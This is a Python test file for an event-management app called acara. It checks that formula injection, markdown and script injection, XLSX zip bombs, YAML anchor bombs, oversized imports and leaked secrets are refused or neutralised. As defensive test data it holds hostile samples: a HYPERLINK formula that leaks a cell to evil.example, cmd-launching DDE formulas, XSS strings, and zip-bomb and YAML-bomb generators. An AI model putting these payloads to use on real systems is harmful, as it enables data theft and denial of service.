"""Hostile participants, careless files and leaked secrets (issue 14): each case is refused or
neutralised with one clear message, in bounded time and memory, and no secret is shown.

The fast cases use small generated inputs with lowered limits; the real sizes (a 245 MB
XLSX bomb, a 50 MB CSV) run in subprocesses that measure time and peak memory, marked slow.
"""

from __future__ import annotations

import asyncio
import csv
import http.server
import io
import logging
import os
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
from fastapi.testclient import TestClient
from pydantic import SecretStr
from sqlmodel import Session

from acara import db as acara_db
from acara.documents.attendance import attendance_csv, write_attendance
from acara.documents.render import markdown_escape, markdown_html, pdf_from_html
from acara.eventfile import read_event_file, read_participant_list
from acara.exports import safe_cell, unquote_cell
from acara.links import make_rsvp_token
from acara.messages.channels import TransportAuthError
from acara.messages.channels.email import transport_from_url
from acara.messages.channels.smtp import SmtpTransport
from acara.minutesfile import read_minutes_file
from acara.settings import get_settings, masked
from acara.web import create_app
from acara.web.server import RedactSecrets, redact_path
from models.errors import InvalidInput, Problem
from models.people import Person
from tests.conftest import EXAMPLES
from tests.smtp_server import SmtpSink
from tests.web_helpers import participants_in_order, seed_event

ROOT = Path(__file__).resolve().parent.parent.parent
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ONLY_SQLITE = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)


@pytest.fixture
def limits(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Small import limits, so a few hundred kilobytes stand for the real sizes."""
    monkeypatch.setenv("ACARA_IMPORT_MAX_BYTES", "200000")
    monkeypatch.setenv("ACARA_IMPORT_MAX_UNPACKED_BYTES", "1000000")
    monkeypatch.setenv("ACARA_IMPORT_MAX_ROWS", "1000")
    get_settings.cache_clear()
    yield
    get_settings.cache_clear()


# --- 1. exports -------------------------------------------------------------------------------
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_written_as_text_and_read_back_unchanged(
    formula: str,
) -> None:
    cell = safe_cell(formula)
    assert cell == "'" + formula
    assert unquote_cell(cell) == formula


@pytest.mark.parametrize(
    "plain", ["+62 812-3456-7890", "+6281234567890", "-5", "-", "Budi", "08127000000", "3.5"]
)
def test_names_numbers_and_phone_numbers_are_written_as_they_are(plain: str) -> None:
    assert safe_cell(plain) == plain


def test_the_attendance_csv_neutralises_formulas_opens_in_excel_and_imports_back(
    session: Session, tmp_path: Path
) -> None:
    event = seed_event(session, "kunjungan-camat-jambi.yaml")
    people = [session.get(Person, p.person_id) for p in participants_in_order(session, event)]
    for person, formula in zip(people, FORMULAS[:4], strict=False):
        assert person is not None
        person.name = formula
        person.position = formula
        session.add(person)
    session.commit()

    path = write_attendance(session, event, "csv", now=event.starts_at, output=tmp_path / "d.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the names as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["group", "no", "name"]  # Indonesian Excel: one column per field
    cells = [cell for row in rows[1:] for cell in row]
    # A phone number in E.164 (+62812...) is data, not a formula: it stays as it is.
    formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2")]
    assert not [c for c in formulas if not (c[:1] == "+" and c[1:].isdigit())]
    # The same file is a participant list acara reads: the formulas come back as names.
    listed = read_participant_list(path)
    assert not listed.problems
    assert {r.spec.position for r in listed.rows} >= set(FORMULAS[:4])
    assert "Drs. H. =HYPERLINK(" in listed.rows[0].spec.name  # titles kept around it
    assert "," in attendance_csv(session, event).splitlines()[0]  # the plain form, for programs


# --- 2. minutes and press rendering ------------------------------------------------------------
class _Counter(http.server.BaseHTTPRequestHandler):
    hits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Counter.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def counting_server() -> Iterator[str]:
    _Counter.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counter)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_minutes_markdown_makes_no_live_link_and_the_pdf_fetches_nothing(
    counting_server: str, tmp_path: Path
) -> None:
    secret = tmp_path / "rahasia.png"
    secret.write_bytes(b"\x89PNG not really")
    summary = (
        "Rapat dibuka. [Klik](javascript:alert(1)) [data](data:text/html,<b>x</b>) "
        f"![a]({counting_server}/a.png) ![b](file://{secret}) <script>alert(2)</script> "
        f'<img src="{counting_server}/raw.png"> [situs](https://tangerangkota.go.id) '
        "[surel](mailto:protokol@tangerangkota.go.id)"
    )
    html = str(markdown_html(summary))
    assert "javascript:" not in html and "data:" not in html and "<script" not in html
    assert "<img" not in html and "file://" not in html
    assert 'href="https://tangerangkota.go.id"' in html and 'href="mailto:' in html
    # Even markup that reaches WeasyPrint some other way loads nothing from outside.
    document = (
        f"<html><body>{html}<img src='{counting_server}/direct.png'>"
        f"<img src='file://{secret}'><link rel=stylesheet href='{counting_server}/s.css'>"
        "<img src='data:image/png;base64,iVBORw0KGgo='></body></html>"
    )
    pdf = pdf_from_html(document)
    assert pdf.startswith(b"%PDF") and _Counter.hits == []


def test_the_press_release_markdown_carries_no_markup_from_an_event_title() -> None:
    title = "<script>alert(1)</script> [klik](javascript:alert(1)) ![x](http://evil/x.png)"
    text = markdown_escape(title)
    assert "<script" not in text and "](" not in text.replace("\\](", "")
    assert str(markdown_html(text)).count("<a") == 0 and "<img" not in str(markdown_html(text))
    assert "&lt;script&gt;" in str(markdown_html(text))


# --- 3. import limits ----------------------------------------------------------------------------
def _xlsx_bomb(path: Path, unpacked: int) -> Path:
    """A valid-looking workbook whose sheet unpacks to `unpacked` bytes of repeated rows."""
    row = (
        '<row><c t="inlineStr"><is><t>Budi</t></is></c>'
        '<c t="inlineStr"><is><t>b@x.id</t></is></c></row>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
        )
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0"?><worksheet><sheetData>')
            chunk = (row * 10_000).encode()
            written = 0
            while written < unpacked:
                sheet.write(chunk)
                written += len(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return path


def test_an_xlsx_that_unpacks_to_too_much_is_refused_before_loading(
    limits: None, tmp_path: Path
) -> None:
    path = _xlsx_bomb(tmp_path / "peserta.xlsx", 3_000_000)
    assert path.stat().st_size < 200_000
    with pytest.raises(InvalidInput, match=r"unpacks to 3\.\d MB, more than the 1\.0 MB"):
        read_participant_list(path)


def test_a_csv_over_the_size_limit_is_refused_with_one_message(
    limits: None, tmp_path: Path
) -> None:
    path = tmp_path / "peserta.csv"
    path.write_text("nama,email\n" + "Budi,bukan-email\n" * 20_000, encoding="utf-8")
    with pytest.raises(InvalidInput) as caught:
        read_participant_list(path)
    assert len(caught.value.problems) == 1
    assert "ACARA_IMPORT_MAX_BYTES" in str(caught.value)


def test_a_list_with_too_many_rows_is_refused(limits: None, tmp_path: Path) -> None:
    path = tmp_path / "peserta.csv"
    path.write_text("email\n" + "".join(f"p{i}@x.id\n" for i in range(1500)), encoding="utf-8")
    with pytest.raises(InvalidInput, match="more than 1,000 rows"):
        read_participant_list(path)


def test_a_long_list_of_bad_rows_reports_the_first_200_and_a_count(tmp_path: Path) -> None:
    path = tmp_path / "peserta.csv"
    path.write_text("nama,email\n" + "Budi,bukan-email\n" * 5000, encoding="utf-8")
    listed = read_participant_list(path)
    assert len(listed.problems) == 5000
    message = str(InvalidInput(listed.problems))
    assert message.count("\n  - row ") == 200
    assert message.endswith("... and 4,800 more problems not shown")


BOMB = """\
---
event: kunker-camat-jambi-2026
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
---
## Ringkasan
Bom.
"""


def test_a_yaml_bomb_in_minutes_is_refused_at_once(tmp_path: Path) -> None:
    path = tmp_path / "notulen.md"
    path.write_text(BOMB, encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"notulen\.md: not read: the YAML expands to more"):
        read_minutes_file(path)


def test_a_yaml_bomb_in_an_event_file_is_refused_at_once(tmp_path: Path) -> None:
    path = tmp_path / "event.yaml"
    path.write_text(BOMB.split("---")[1], encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"event\.yaml: not read: the YAML expands to more"):
        read_event_file(path)


def test_a_few_anchors_in_an_event_file_still_work(tmp_path: Path) -> None:
    path = tmp_path / "event.yaml"
    path.write_text(
        "code: fgd-2026\nkind: fgd\ntitle: FGD\nstart: 2026-12-10 09:00\n"
        "end: 2026-12-10 12:00\nhost: &host Pemerintah Kota Tangerang\nguest: *host\n",
        encoding="utf-8",
    )
    spec, _ = read_event_file(path)
    assert spec.guest == spec.host == "Pemerintah Kota Tangerang"


# --- 4. what officers really save ----------------------------------------------------------
def test_an_excel_csv_in_windows_1252_with_a_title_row_a_no_column_and_doubled_quotes_imports(
    tmp_path: Path,
) -> None:
    path = tmp_path / "peserta.csv"
    text = (
        "DAFTAR PESERTA KUNJUNGAN KERJA;;;\r\n"
        ";;;\r\n"
        "No;Nama;Jabatan;Email\r\n"
        '1;"Budi ""Bud"", S.Sos";"Camat; Kumpeh";budi@jambiprov.go.id\r\n'
        "2;José Müller–Ängström;Konsultan ‘Ahli’;jose@example.org\r\n"
    )
    path.write_bytes(text.encode("cp1252"))
    listed = read_participant_list(path)
    assert not listed.problems
    assert [(r.where, r.spec.name, r.spec.position) for r in listed.rows] == [
        ("row 4", 'Budi "Bud", S.Sos', "Camat; Kumpeh"),
        ("row 5", "José Müller–Ängström", "Konsultan ‘Ahli’"),
    ]
    assert "Windows-1252" in listed.notices[0]


def test_a_comma_csv_with_quoted_commas_beyond_the_first_line_is_read(tmp_path: Path) -> None:
    path = tmp_path / "peserta.csv"
    path.write_text(
        'nama,email\n"Ahmad Hidayat, S.Sos., M.Si.",a@x.id\n"Siti ""Ina"", S.E.",s@x.id\n',
        encoding="utf-8",
    )
    names = [r.spec.name for r in read_participant_list(path).rows]
    assert names == ["Ahmad Hidayat, S.Sos., M.Si.", 'Siti "Ina", S.E.']


# --- 5. secrets --------------------------------------------------------------------------------
def test_auth_over_a_connection_without_tls_is_refused_naming_the_setting() -> None:
    from tests.integration.test_transport import invitations

    with SmtpSink(require_auth=("acara", "rahasia")) as sink:
        transport = SmtpTransport(
            sink.host, sink.port, security="starttls", username="acara", password="rahasia"
        )
        with pytest.raises(TransportAuthError, match="ACARA_SMTP_ALLOW_PLAINTEXT_AUTH"):
            asyncio.run(transport.send_batch(invitations(2)))
        assert sink.count == 0 and sink.auth_failures == 0


def test_a_mail_url_with_a_bad_port_does_not_show_its_password(tmp_path: Path) -> None:
    with pytest.raises(ValueError) as caught:
        transport_from_url("smtp://mailer:Rahasia123@mail.example.org:99999", maildir=tmp_path)
    assert "Rahasia123" not in str(caught.value) and "***" in str(caught.value)
    assert caught.value.__cause__ is None and caught.value.__suppress_context__


def test_the_smtp_password_is_kept_out_of_reprs() -> None:
    transport = SmtpTransport("mail.example.org", 587, username="u", password="Rahasia123")
    assert "Rahasia123" not in repr(vars(transport)) and transport.password == "Rahasia123"
    assert masked("postgresql://acara:Rahasia123@db/acara") == "postgresql://acara:***@db/acara"


def test_a_settings_error_names_the_variable_but_not_its_value(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("ACARA_ENVIRONMENT", "production")
    monkeypatch.setenv("ACARA_SECRET_KEY", "acara-development-secret-change-me")
    monkeypatch.setenv("ACARA_SMTP_WORKERS", "Rahasia123")
    get_settings.cache_clear()
    try:
        with pytest.raises(Exception) as caught:
            get_settings()
    finally:
        get_settings.cache_clear()
    text = str(caught.value)
    assert "ACARA_SMTP_WORKERS" in text and "Rahasia123" not in text
    assert caught.value.__cause__ is None and caught.value.__suppress_context__


@pytest.mark.parametrize(
    ("environment", "base_url", "allowed"),
    [
        ("development", "http://127.0.0.1:8000", True),
        ("development", "http://localhost:8000", True),
        ("development", "https://acara.tangerangkota.go.id", False),
        ("production", "http://127.0.0.1:8000", False),
    ],
)
def test_the_development_secret_signs_only_on_a_developers_own_machine(
    monkeypatch: pytest.MonkeyPatch, environment: str, base_url: str, allowed: bool
) -> None:
    monkeypatch.setenv("ACARA_ENVIRONMENT", environment)
    monkeypatch.setenv("ACARA_BASE_URL", base_url)
    monkeypatch.delenv("ACARA_SECRET_KEY", raising=False)
    get_settings.cache_clear()
    try:
        if allowed:
            get_settings()
        else:
            with pytest.raises(Exception, match="ACARA_SECRET_KEY must be set"):
                get_settings()
    finally:
        get_settings.cache_clear()


def test_the_access_log_shows_no_token_or_check_in_code() -> None:
    token = "eyJwIjoxMn0.ZXhhbXBsZQ.c2lnbmF0dXJl"
    record = logging.LogRecord(
        "uvicorn.access",
        logging.INFO,
        __file__,
        1,
        '%s - "%s %s HTTP/%s" %d',
        ("127.0.0.1:5000", "GET", f"/rsvp/{token}?done=accepted", "1.1", 200),
        None,
    )
    RedactSecrets().filter(record)
    line = record.getMessage()
    assert token not in line and "/rsvp/…?done=accepted" in line
    assert redact_path("/checkin/K7Q2-9XZ/qr.png") == "/checkin/…/qr.png"
    assert redact_path("/survey/abc.def") == "/survey/…"


# --- 6. health and the database -------------------------------------------------------------
@ONLY_SQLITE
def test_a_database_deleted_under_the_web_app_gives_503_and_a_failing_healthz(
    session: Session, db_url: str
) -> None:
    event = seed_event(session, "kunjungan-camat-jambi.yaml")
    guest = participants_in_order(session, event)[3]
    token = make_rsvp_token(guest.id, event.id)
    session.close()
    client = TestClient(create_app())
    assert client.get("/healthz").json() == {"status": "ok"}
    assert client.get(f"/rsvp/{token}").status_code == 200

    path = acara_db.sqlite_path(db_url)
    assert path is not None
    path.unlink()
    health = client.get("/healthz")
    assert health.status_code == 503 and "was deleted" in health.json()["detail"]
    answer = client.post(f"/rsvp/{token}", data={"answer": "accept"}, follow_redirects=False)
    assert answer.status_code == 503 and "was deleted" in answer.text


@ONLY_SQLITE
def test_a_database_replaced_under_a_running_process_is_refused(
    session: Session, db_url: str
) -> None:
    session.close()
    with acara_db.unit_of_work(db_url) as s:
        s.connection()
    path = acara_db.sqlite_path(db_url)
    assert path is not None
    copy = path.with_name("copy.db")
    copy.write_bytes(path.read_bytes())
    copy.replace(path)
    with pytest.raises(acara_db.DatabaseLost, match="replaced"), acara_db.unit_of_work(db_url) as s:
        s.connection()


def test_a_missing_database_is_not_created_by_a_read_and_not_recreated_silently(
    tmp_path: Path,
) -> None:
    url = f"sqlite:///{tmp_path / 'data' / 'acara.db'}"
    with pytest.raises(acara_db.DatabaseLost, match="run `acara db upgrade` first"):
        acara_db.check_health(url)
    assert not (tmp_path / "data" / "acara.db").exists()
    assert acara_db.upgrade(url) is True
    acara_db.engine_for(url).dispose()
    (tmp_path / "data" / "acara.db").unlink()
    # A restart (acara serve runs upgrade) must not start again from an empty database ...
    with pytest.raises(acara_db.DatabaseLost, match="an earlier one existed"):
        acara_db.upgrade(url)
    # ... unless the officer asks for it (`acara db upgrade`).
    assert acara_db.upgrade(url, replace_lost=True) is True


def test_healthz_fails_on_a_database_without_acaras_tables(tmp_path: Path) -> None:
    import sqlite3

    path = tmp_path / "other.db"
    sqlite3.connect(path).close()
    with pytest.raises(acara_db.DatabaseLost, match="no acara tables"):
        acara_db.check_health(f"sqlite:///{path}")


# --- 7. reserved names --------------------------------------------------------------------------
@pytest.mark.parametrize("code", [".", "..", "...", ".hidden", "-x", "CON", "nul.txt", "a/b"])
def test_an_event_code_that_is_not_a_safe_file_name_is_refused(code: str, tmp_path: Path) -> None:
    text = (EXAMPLES / "fgd-halifax.yaml").read_text(encoding="utf-8")
    path = tmp_path / "event.yaml"
    path.write_text(text.replace("code: fgd-halifax-2026", f"code: '{code}'", 1), encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"event.yaml is not valid:\n  - code: "):
        read_event_file(path)


# --- the real sizes, in a subprocess that measures itself -----------------------------------
MEASURE = """
import sys, time
from pathlib import Path
from models.errors import InvalidInput
started = time.monotonic()
try:
    if sys.argv[1].endswith(".md"):
        from acara.minutesfile import read_minutes_file
        read_minutes_file(Path(sys.argv[1]))
    else:
        from acara.eventfile import read_participant_list
        read_participant_list(Path(sys.argv[1]))
    outcome = "imported"
except InvalidInput as error:
    outcome = "refused: " + str(error).replace("\\n", " ")
# VmHWM: this process's own peak (ru_maxrss would include the parent's, from before exec).
status = Path("/proc/self/status").read_text().splitlines()
peak = next(int(l.split()[1]) for l in status if l.startswith("VmHWM:")) // 1024
print(f"{time.monotonic() - started:.2f} {peak} {outcome}")
"""


def measure(path: Path) -> tuple[float, int, str]:
    """Seconds, peak MB and the outcome of reading a file in a fresh process."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for name in ("ACARA_IMPORT_MAX_BYTES", "ACARA_IMPORT_MAX_UNPACKED_BYTES"):
        env.pop(name, None)
    done = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        cwd=path.parent,
        check=True,
    )
    seconds, peak, outcome = done.stdout.strip().split(" ", 2)
    return float(seconds), int(peak), outcome


def _bad_csv(folder: Path, header: bytes, line: bytes, size: int) -> Path:
    """A CSV of about `size` bytes: the header, then `line` again and again."""
    path = folder / "peserta.csv"
    with path.open("wb") as out:
        out.write(header)
        out.write(line * (size // len(line)))
    return path


def test_the_minutes_yaml_bomb_is_refused_within_seconds_in_little_memory(tmp_path: Path) -> None:
    path = tmp_path / "notulen.md"
    path.write_text(BOMB, encoding="utf-8")
    seconds, peak, outcome = measure(path)
    assert outcome.startswith("refused") and seconds < 10 and peak < 300, (seconds, peak)


@pytest.mark.slow
def test_a_real_xlsx_bomb_is_refused_within_10_s_and_300_mb(tmp_path: Path) -> None:
    path = _xlsx_bomb(tmp_path / "peserta.xlsx", 245_000_000)
    assert path.stat().st_size < 2_000_000
    seconds, peak, outcome = measure(path)
    assert "unpacks to 245" in outcome and seconds < 10 and peak < 300, (seconds, peak, outcome)


@pytest.mark.slow
def test_a_50_mb_csv_of_bad_rows_is_refused_within_10_s_and_300_mb(tmp_path: Path) -> None:
    line = b"Budi Santoso,bukan-email,Camat Kumpeh,Pemerintah Provinsi Jambi\n"
    path = _bad_csv(tmp_path, b"nama,email,jabatan,instansi\n", line, 50_000_000)
    seconds, peak, outcome = measure(path)
    assert "ACARA_IMPORT_MAX_BYTES" in outcome and seconds < 10 and peak < 300, (seconds, peak)


@pytest.mark.slow
def test_a_20_mb_csv_of_bad_rows_just_under_the_limit_is_refused_within_seconds(
    tmp_path: Path,
) -> None:
    path = _bad_csv(tmp_path, b"nama,email\n", b"Budi,bukan-email\n", 19_000_000)
    seconds, peak, outcome = measure(path)
    assert "ACARA_IMPORT_MAX_ROWS" in outcome and seconds < 10 and peak < 300, (seconds, peak)


def test_problems_render_to_one_short_message() -> None:
    problems = [Problem(f"row {i}", "bad") for i in range(100_000)]
    assert len(str(InvalidInput(problems))) < 10_000
    assert SecretStr("x")  # settings keep secrets as SecretStr
